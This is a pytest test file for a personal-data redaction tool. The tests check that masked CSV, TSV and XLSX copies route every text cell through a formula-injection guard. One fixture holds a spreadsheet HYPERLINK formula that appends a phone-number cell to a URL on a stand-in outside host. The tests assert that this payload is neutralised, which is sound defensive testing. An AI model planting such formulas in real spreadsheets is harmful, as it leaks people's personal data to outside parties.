"""Every text cell a masked copy writes goes through ``_cells._out_cell`` (where the writers'
formula-injection guard belongs): title, header and data cells alike, CSV and XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from python_calamine import CalamineWorkbook

from leaktrace.redact import _byvalue, _delimited, _xlsx, redact


@pytest.fixture
def marked(monkeypatch):
    def out_cell(text: str, *, into: str) -> str:
        return "§" + text

    for module in (_delimited, _xlsx, _byvalue):
        monkeypatch.setattr(module, "_out_cell", out_cell)


def test_every_csv_field_goes_through_out_cell(evidence, tmp_path, marked):
    redact([evidence / "owners.csv", evidence / "contacts.tsv"], tmp_path / "out")
    owners = (tmp_path / "out" / "owners.csv").read_bytes().decode("gbk").replace("\r\n", "\n")
    rows = [r for r in csv.reader(io.StringIO(owners)) if r]
    assert rows[0] == ["§某小区业主名单（2023年）"]
    assert all(field.startswith("§") for row in rows for field in row if field), rows
    assert rows[2][1] == "§138****5678"
    tsv = (tmp_path / "out" / "contacts.tsv").read_text(encoding="utf-8").splitlines()
    assert all(f.startswith("§") for line in tsv for f in line.split("\t") if f), tsv


def test_every_xlsx_text_cell_goes_through_out_cell(evidence, tmp_path, marked):
    redact([evidence / "book.xlsx"], tmp_path / "out")
    book = CalamineWorkbook.from_path(str(tmp_path / "out" / "book.xlsx"))
    cells = [
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
        if cell != ""
    ]
    texts = [c for c in cells if isinstance(c, str)]
    assert texts and all(c.startswith("§") for c in texts), texts
    assert "§138****5678" in texts and 12.5 in cells  # numbers stay numbers


def test_a_formula_in_the_evidence_is_never_live_in_the_copy(tmp_path):
    from leaktrace.cells import restore_csv_cell

    source = tmp_path / "list.csv"
    source.write_text(
        '姓名,手机,备注\n张伟,13812345678,"=HYPERLINK(""http://x.example/?""&B2,""点击"")"\n',
        encoding="utf-8",
    )
    book_path = tmp_path / "list.xlsx"
    import xlsxwriter

    book = xlsxwriter.Workbook(str(book_path))
    sheet = book.add_worksheet("S")
    sheet.write_row(0, 0, ["姓名", "手机", "备注"])
    sheet.write_row(1, 0, ["张伟", "13812345678"])
    sheet.write_string(1, 2, "=1+1")
    book.close()
    redact([source, book_path], tmp_path / "out")
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "list.csv").read_text("utf-8"))))
    assert rows[1][2].startswith("'=")
    assert restore_csv_cell(rows[1][2]) == '=HYPERLINK("http://x.example/?"&B2,"点击")'
    copy = CalamineWorkbook.from_path(str(tmp_path / "out" / "list.xlsx")).get_sheet_by_name("S")
    assert copy.to_python()[1] == ["张*", "138****5678", "=1+1"]  # a string, not a formula
